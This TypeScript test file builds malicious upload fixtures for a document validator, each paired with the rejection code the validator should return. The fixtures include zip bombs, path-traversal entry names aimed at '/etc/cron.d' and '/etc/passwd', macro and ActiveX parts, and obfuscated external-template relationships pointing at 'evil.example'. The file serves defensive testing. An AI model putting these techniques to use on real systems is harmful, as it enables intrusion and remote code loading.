import type { BadFile } from './bad-files.ts';
import { buildDocx, buildZip, docxParts, odtParts, type ZipPart } from './zip.ts';

const MEGABYTE = 1024 * 1024;
const bad = (what: string, name: string, answer: BadFile['answer'], content: () => Buffer): BadFile => ({ what, name, content, answer });
const docx = (what: string, answer: BadFile['answer'], ...more: ZipPart[]): BadFile => bad(what, 'a.docx', answer, () => buildZip([...docxParts(), ...more]));
const odt = (what: string, answer: BadFile['answer'], ...more: ZipPart[]): BadFile => bad(what, 'a.odt', answer, () => buildZip([...odtParts(), ...more]));
const zeros = Buffer.alloc(20 * MEGABYTE);
const many = (count: number): ZipPart[] => Array.from({ length: count }, (_each, at) => ({ name: `word/media/${at}.txt`, content: 'x' }));

/** Documents that are archives inside, and archives that are no documents. */
export const BAD_ARCHIVES: readonly BadFile[] = [
  docx('a bomb: one part packed a thousand times', 'FILE_UNSAFE_ARCHIVE', { name: 'word/media/a.bin', content: zeros }),
  docx('a bomb of many parts', 'FILE_UNSAFE_ARCHIVE', ...Array.from({ length: 8 }, (_each, at) => ({ name: `word/${at}.bin`, content: zeros }))),
  docx('a bomb that says it is small', 'FILE_UNSAFE_ARCHIVE', { name: 'word/media/a.bin', content: zeros, claims: 1000 }),
  docx('a bomb that says it is larger than any disk', 'FILE_UNSAFE_ARCHIVE', { name: 'word/media/a.bin', content: 'x', claims: 0xfffffff0 }),
  docx('a bomb whose parts share their bytes', 'FILE_UNSAFE_ARCHIVE', { name: 'word/a', content: 'x'.repeat(5000), overlaps: true }),
  docx('more parts than any letter has', 'FILE_UNSAFE_ARCHIVE', ...many(3100)),
  docx('two parts of one name', 'FILE_UNSAFE_ARCHIVE', { name: 'word/document.xml', content: 'another' }),
  docx('a part that would be written elsewhere', 'FILE_UNSAFE_ARCHIVE', { name: '../../etc/cron.d/x', content: 'x' }),
  docx('a part with a place of its own', 'FILE_UNSAFE_ARCHIVE', { name: '/etc/passwd', content: 'x' }),
  docx('a part with backslashes', 'FILE_UNSAFE_ARCHIVE', { name: '..\\..\\x', content: 'x' }),
  docx('a letter with macros', 'FILE_HAS_SCRIPT', { name: 'word/vbaProject.bin', content: 'macros' }),
  docx('a letter with macros in another place', 'FILE_HAS_SCRIPT', { name: 'custom/VBAProject.bin', content: 'macros' }),
  docx('a letter with controls', 'FILE_HAS_SCRIPT', { name: 'word/activeX/activeX1.bin', content: 'control' }),
  docx('a letter with a template from elsewhere', 'FILE_HAS_SCRIPT', {
    name: 'word/_rels/settings.xml.rels',
    content: '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
  }),
  docx('a letter with a template from elsewhere, asked for by another part', 'FILE_HAS_SCRIPT', {
    name: 'Word/_rels/other.XML.rels',
    content: "<Relationship TargetMode = 'E&#x0078;ternal' Target='https://evil.example/a.dotm' Type='http://x/attachedTemplate'/>",
  }),
  docx('a letter with an object from elsewhere, two bytes a letter', 'FILE_HAS_SCRIPT', {
    name: 'word/_rels/document.xml.rels',
    content: Buffer.from('\ufeff<Relationship Type="http://x/oleObject" Target="mhtml:https://evil.example/a" TargetMode="External"/>', 'utf16le'),
  }),
  bad('a letter whose macros go by another name', 'a.docx', 'FILE_HAS_SCRIPT', () =>
    buildZip(docxParts('<Types><Override ContentType="application/vnd.ms-office.vba&#80;roject"/>wordprocessingml.document.main+xml</Types>')),
  ),
  bad('a letter that may have macros', 'a.docx', 'FILE_HAS_SCRIPT', () =>
    buildZip(docxParts('<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>wordprocessingml.document.main+xml</Types>')),
  ),
  docx('a letter with a locked part', 'FILE_LOCKED', { name: 'word/media/a.txt', content: 'x', locked: true }),
  bad('a letter with a password', 'a.docx', 'FILE_LOCKED', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)])),
  odt('a letter with macros of LibreOffice', 'FILE_HAS_SCRIPT', { name: 'Basic/Standard/Module1.xml', content: 'macros' }),
  odt('a letter with a script of LibreOffice', 'FILE_HAS_SCRIPT', { name: 'Scripts/python/x.py', content: 'import os' }),
  odt('a bomb in an OpenDocument', 'FILE_UNSAFE_ARCHIVE', { name: 'Pictures/a.png', content: zeros }),
  bad('an OpenDocument with a password', 'a.odt', 'FILE_LOCKED', () => {
    const [type, , content] = odtParts();
    return buildZip([type, { name: 'META-INF/manifest.xml', content: '<manifest:encryption-data/>' }, content].filter((part) => part !== undefined));
  }),
  bad('a sheet that calls itself a letter', 'a.odt', 'FILE_TYPE_NOT_ALLOWED', () => buildZip(odtParts('spreadsheet'))),
  bad('a letter of another kind than its name says', 'a.odt', 'FILE_TYPE_NOT_ALLOWED', () => buildDocx()),
  bad('any archive', 'a.docx', 'FILE_TYPE_NOT_ALLOWED', () => buildZip([{ name: 'a.txt', content: 'x' }])),
  bad('any archive, under its own name', 'a.zip', 'FILE_TYPE_NOT_ALLOWED', () => buildZip([{ name: 'a.txt', content: 'x' }])),
  bad('a letter under the name of an archive', 'a.jar', 'FILE_TYPE_NOT_ALLOWED', () => buildDocx()),
  bad('a program for Java', 'a.docx', 'FILE_TYPE_NOT_ALLOWED', () => buildZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: X' }])),
  bad('an archive cut off in the middle', 'a.docx', 'FILE_DAMAGED', () => buildDocx().subarray(0, 200)),
  bad('an archive that says it has more parts than it has', 'a.docx', 'FILE_DAMAGED', () => buildZip(docxParts(), { entryCount: 50 })),
];
